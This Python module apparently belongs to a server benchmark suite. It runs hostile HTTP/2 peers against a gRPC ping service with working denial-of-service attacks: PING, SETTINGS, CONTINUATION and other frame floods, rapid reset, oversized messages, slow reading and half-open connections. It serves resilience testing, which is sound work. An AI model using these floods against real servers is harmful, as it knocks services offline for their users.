"""Peers that mean harm, as a process of their own: what they send over raw sockets, as fast as one connection takes it.

Frames are made once and sent in long pieces, so that the attacker needs little of the cores it shares with the server.
"""

from __future__ import annotations

import contextlib
import os
import socket
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from multiprocessing.connection import Connection

from geooffer.bench.processes import pin

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PATH = "/geooffer.v1.PingService/StreamPings"
PIECE_FRAME_COUNT = 500
HALF_OPEN_COUNT = 100
LOOK_EVERY_S = 0.01
ATTACKER_NICENESS = 10
"""Attackers have machines of their own; here they take what the server and the honest load leave of two cores."""
_DATA, _HEADERS, _PRIORITY, _RESET, _SETTINGS, _PING, _WINDOW, _CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
_END_HEADERS = 4


@dataclass(frozen=True, slots=True)
class AttackPlan:
    """One attack on one server, in clear."""

    kind: str
    """One of ATTACKS."""
    address: str
    token: str
    seconds: float


@dataclass(frozen=True, slots=True)
class Attacked:
    """What became of it."""

    sent_bytes: int
    closed_count: int
    """Connections that the server ended; a flood connects anew then."""


def frame(kind: int, flags: int, stream_id: int, payload: bytes) -> bytes:
    """As it goes over the wire."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream_id.to_bytes(4, "big") + payload


def request(stream_id: int, token: str, flags: int = _END_HEADERS) -> bytes:
    """HEADERS of a ping stream, all literal."""
    headers = (
        (":method", "POST"), (":scheme", "http"), (":path", PATH), (":authority", "localhost"), ("te", "trailers"),
        ("content-type", "application/grpc"), ("authorization", f"Bearer {token}"),
    )  # fmt: skip
    return frame(_HEADERS, flags, stream_id, b"".join(b"\0" + _text(name) + _text(value) for name, value in headers))


def _text(text: str) -> bytes:
    """A string of HPACK, without Huffman's code; a length is a number with a prefix of seven bits."""
    data = text.encode()
    if len(data) < 127:
        return bytes([len(data)]) + data
    rest, length = len(data) - 127, bytearray([127])
    while rest >= 128:
        length.append(rest % 128 + 128)
        rest //= 128
    return bytes(length) + bytes([rest]) + data


def _message(size_bytes: int, length_bytes: int) -> bytes:
    """The prefix of a gRPC message that says `size_bytes`, and `length_bytes` of it."""
    return b"\0" + size_bytes.to_bytes(4, "big") + bytes(length_bytes)


def _repeated(kind: int, flags: int, stream_id: int, payload: bytes) -> Callable[[str], Iterator[bytes]]:
    """One frame without end; on stream 1 after its headers, which CONTINUATION goes on with."""
    opening = 0 if kind == _CONTINUATION else _END_HEADERS

    def pieces(token: str) -> Iterator[bytes]:
        if stream_id and kind != _PRIORITY:
            yield request(1, token, opening)
        piece = frame(kind, flags, stream_id, payload) * PIECE_FRAME_COUNT
        while True:
            yield piece

    return pieces


def _resets(token: str) -> Iterator[bytes]:
    """Streams asked for, each reset at once."""
    first = 1
    while True:
        numbers = range(first, first + 2 * 50, 2)
        yield b"".join(request(number, token) + frame(_RESET, 0, number, b"\0\0\0\x08") for number in numbers)
        first += 2 * 50


def _oversized(token: str) -> Iterator[bytes]:
    """Messages that announce 5 MB, a stream each."""
    first = 1
    while True:
        numbers = range(first, first + 2 * 20, 2)
        yield b"".join(request(n, token) + frame(_DATA, 0, n, _message(5_000_000, 1_000)) for n in numbers)
        first += 2 * 20


def _unread(token: str) -> Iterator[bytes]:
    """Good pings, each in a frame of its own, whose answers nobody reads."""
    yield request(1, token)
    piece = frame(_DATA, 0, 1, b"\0\0\0\0\x02\x0a\0") * PIECE_FRAME_COUNT
    while True:
        yield piece


FLOODS: dict[str, Callable[[str], Iterator[bytes]]] = {
    "PING flood": _repeated(_PING, 0, 0, b"12345678"),
    "SETTINGS flood": _repeated(_SETTINGS, 0, 0, b"\0\x04\0\0\xff\xff"),
    "WINDOW_UPDATE flood": _repeated(_WINDOW, 0, 0, b"\0\0\0\x01"),
    "PRIORITY flood": _repeated(_PRIORITY, 0, 1, b"\0\0\0\0\x03"),
    "CONTINUATION flood": _repeated(_CONTINUATION, 0, 1, b""),
    "empty DATA": _repeated(_DATA, 0, 1, b""),
    "rapid reset": _resets,
    "oversized messages": _oversized,
    "slow reader": _unread,
}
HALVES = ("half-open", "truncated messages")
ATTACKS = (*FLOODS, *HALVES)


def run_attack(pipe: Connection, core: int | None) -> None:
    """The process's main: AttackPlans in, for each "begun" and then an Attacked out, until the pipe closes."""
    pin(core)
    os.nice(ATTACKER_NICENESS)
    while True:
        try:
            plan: AttackPlan = pipe.recv()
        except (EOFError, KeyboardInterrupt):
            return
        pipe.send(("begun",))
        pipe.send(_halves(plan) if plan.kind in HALVES else _flood(plan))


def _connected(address: str) -> socket.socket:
    host, _, port = address.rpartition(":")
    connection = socket.create_connection((host, int(port)), 10)
    connection.setblocking(False)
    return connection


def _flood(plan: AttackPlan) -> Attacked:
    """One connection at a time, until the time is over."""
    ends_s, sent_bytes, closed_count = time.monotonic() + plan.seconds, 0, 0
    reads = plan.kind != "slow reader"
    while time.monotonic() < ends_s:
        try:
            with _connected(plan.address) as connection:
                pieces = FLOODS[plan.kind](plan.token)
                rest = PREFACE + frame(_SETTINGS, 0, 0, b"")
                while time.monotonic() < ends_s:
                    try:
                        count = connection.send(rest)
                        sent_bytes, rest = sent_bytes + count, rest[count:]
                    except BlockingIOError:
                        time.sleep(LOOK_EVERY_S / 10)
                    rest = rest or next(pieces)
                    if reads:
                        _read_away(connection)
        except (ConnectionError, TimeoutError):
            closed_count += 1
    return Attacked(sent_bytes, closed_count)


def _read_away(connection: socket.socket) -> None:
    """Raises ConnectionResetError where the server has closed."""
    with contextlib.suppress(BlockingIOError):
        while True:
            if not connection.recv(65_536):
                raise ConnectionResetError


def _halves(plan: AttackPlan) -> Attacked:
    """Connections that stop in the middle, and stay."""
    hello = PREFACE + frame(_SETTINGS, 0, 0, b"")
    # of a message that says 1,000 bytes, 20; or half of the preface
    said = hello + request(1, plan.token) + frame(_DATA, 0, 1, _message(1_000, 20))
    data = said if plan.kind == "truncated messages" else PREFACE[:12]
    ends_s, sent_bytes, closed_count = time.monotonic() + plan.seconds, 0, 0
    with contextlib.ExitStack() as stack:
        connections = [stack.enter_context(_connected(plan.address)) for _ in range(HALF_OPEN_COUNT)]
        for connection in connections:
            sent_bytes += connection.send(data)
        while time.monotonic() < ends_s:
            time.sleep(LOOK_EVERY_S)
            for connection in list(connections):
                try:
                    _read_away(connection)
                except ConnectionError:
                    connections.remove(connection)
                    closed_count += 1
    return Attacked(sent_bytes, closed_count)
